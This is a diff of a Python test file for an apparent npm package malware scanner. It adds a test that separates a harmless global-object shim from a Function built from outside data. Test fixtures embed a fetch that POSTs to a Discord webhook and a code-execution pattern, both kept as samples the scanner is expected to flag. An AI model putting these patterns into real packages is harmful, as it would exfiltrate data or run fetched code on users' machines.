@@ -495,3 +495,16 @@ def test_type_declarations_and_discord_docs_are_not_code_or_channels() -> None:
     assert not [s for s in facts.signals if s.kind == "endpoint.shady"]
     hook = "fetch('https://discord.com/api/webhooks/1234567/abcdefghijklmnopqrstuvwxyz', {method: 'POST'});\n"
     assert verdict(npm_tgz("helperlib", "1.0.0", {"package/index.js": hook}))[0] != "clean"
+
+
+def test_sixteenth_held_out_batch_npm_shape() -> None:
+    """A bundle's global-object shim ``Function("return this")()`` in the same function as its transport's
+    fetch (socket.io's client bundle) runs no fetched code; a Function built from a response does."""
+    shim = ("function client(url) {\n  var g = typeof self !== 'undefined' ? self : Function('return this')();\n"
+            "  return fetch(url).then(function (r) { return r.text(); }).then(function (t) { g.last = t; });\n}\n"
+            "module.exports = client;\nclient('https://helperlib.example/ping');\n")
+    result, findings = verdict(npm_tgz("helperlib-client", "1.0.0", {"index.js": shim}))
+    assert result == "clean", findings
+    bad = shim.replace("Function('return this')()", "Function(globalThis.__helper)()")
+    result, findings = verdict(npm_tgz("helperlib-client", "1.0.0", {"index.js": bad}))
+    assert result != "clean", findings
